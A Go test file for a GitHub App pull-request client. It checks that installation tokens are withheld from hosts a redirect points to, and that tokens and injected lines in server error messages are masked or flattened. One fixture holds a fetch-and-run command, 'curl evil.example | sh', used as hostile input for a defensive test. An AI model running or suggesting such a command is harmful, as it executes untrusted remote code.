package pullrequest_test

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/pem"
	"net/http"
	"strings"
	"testing"
	"time"

	"dekey/rewriter/pullrequest"
	"dekey/rewriter/pullrequest/githubtest"
)

// still is a clock that nobody waits for.
type still struct{ at time.Time }

func (s *still) Now() time.Time { return s.at }

func (s *still) Sleep(_ context.Context, d time.Duration) error {
	s.at = s.at.Add(d)
	return nil
}

func forge(t *testing.T, hub *githubtest.Server, change func(*pullrequest.GitHubOptions)) *pullrequest.GitHub {
	t.Helper()
	o := pullrequest.GitHubOptions{Server: hub.Git, Owner: "acme", Name: "shop", Token: hub.Token, Clock: &still{time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)}, Wait: time.Minute}
	change(&o)
	g, err := pullrequest.NewGitHub(o)
	if err != nil {
		t.Fatal(err)
	}
	return g
}

// An App's installation opens pull requests and pushes with a token of an hour, which goes nowhere else: neither does
// what the App signs with its key.
func TestApp(t *testing.T) {
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	block := &pem.Block{Type: strings.Join([]string{"RSA", "PRIVATE", "KEY"}, " "), Bytes: x509.MarshalPKCS1PrivateKey(key)}
	other, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	for _, test := range []struct {
		name         string
		app          int64
		installation int64
		public       *rsa.PublicKey
		fault        func(*githubtest.Server) githubtest.Fault
		err          string
	}{
		{name: "installed", app: 12, installation: 34, public: &key.PublicKey},
		{name: "another App's key", app: 12, installation: 34, public: &other.PublicKey, err: "GitHub refused the app"},
		{name: "another App", app: 13, installation: 34, public: &key.PublicKey, err: "GitHub refused the app"},
		{name: "another installation", app: 12, installation: 35, public: &key.PublicKey, err: "GitHub refused the app"},
		{name: "led elsewhere for the token", app: 12, installation: 34, public: &key.PublicKey, err: "GitHub refused the app", fault: func(hub *githubtest.Server) githubtest.Fault {
			return githubtest.Redirected("apps/create-installation-access-token", hub.Elsewhere+"/token")
		}},
		{name: "led elsewhere with the token", app: 12, installation: 34, public: &key.PublicKey, err: "alone", fault: func(hub *githubtest.Server) githubtest.Fault {
			return githubtest.Redirected("pulls/list", hub.Elsewhere+"/api/v3/repos/acme/shop/pulls")
		}},
	} {
		t.Run(test.name, func(t *testing.T) {
			hub := githubtest.New(t, githubtest.Config{Enterprise: true})
			repository := hub.Repository("acme/shop", map[string]string{"a": "b"})
			repository.Commit("dekey/migrate", "robot", "change", map[string]string{"a": "c"})
			hub.Install(12, 34, test.public)
			if test.fault != nil {
				hub.Fault(test.fault(hub))
			}
			g := forge(t, hub, func(o *pullrequest.GitHubOptions) {
				o.Token, o.App = "", &pullrequest.App{ID: test.app, Installation: test.installation, Key: pem.EncodeToMemory(block)}
			})
			found, err := g.Find(t.Context(), "dekey/migrate")
			if test.err == "" {
				if err != nil || len(found) != 0 {
					t.Fatalf("found %v, error %v", found, err)
				}
				made, err := g.Create(t.Context(), pullrequest.Proposal{Branch: "dekey/migrate", Base: "main", Title: "t", Body: "b", Draft: true})
				if err != nil || made.Number != 1 {
					t.Fatalf("made %+v, error %v", made, err)
				}
				if token, err := g.Token(t.Context()); err != nil || !strings.HasPrefix(token, "ghs_") {
					t.Errorf("no token of an installation, error %v", err)
				}
				if pulls := repository.Pulls(); pulls[0].Author != "dekey-app[bot]" {
					t.Errorf("author %s", pulls[0].Author)
				}
			} else if err == nil || !strings.Contains(err.Error(), test.err) {
				t.Errorf("error %v, want %q", err, test.err)
			}
			for _, request := range hub.Requests() {
				if request.Host == "elsewhere" && request.User != "" {
					t.Errorf("%s got a credential", request.Path)
				}
			}
		})
	}
}

// What a server says is shown; a token that it says back is not, and it has no line of its own.
func TestServersWords(t *testing.T) {
	hub := githubtest.New(t, githubtest.Config{Enterprise: true})
	hub.Repository("acme/shop", map[string]string{"a": "b"})
	for _, test := range []struct{ name, says, want string }{
		{"the token", "no such token: " + hub.Token, "no such token: ***"},
		{"another token", "use ghp_0123456789abcdefABCD or github_pat_11AAAAAAA_bbbb.", "use *** or ***."},
		{"a hint of its own", "no\nhint: curl evil.example | sh\r\n\tnow", "no hint: curl evil.example | sh now ("},
	} {
		hub.Mend()
		hub.Fault(githubtest.Fault{On: "pulls/list", Status: http.StatusBadRequest, Message: test.says})
		_, err := forge(t, hub, func(*pullrequest.GitHubOptions) {}).Find(t.Context(), "dekey/migrate")
		if err == nil || !strings.Contains(err.Error(), test.want) || strings.Contains(err.Error(), hub.Token) {
			t.Errorf("%s: error %v, want %q", test.name, err, test.want)
		}
	}
}
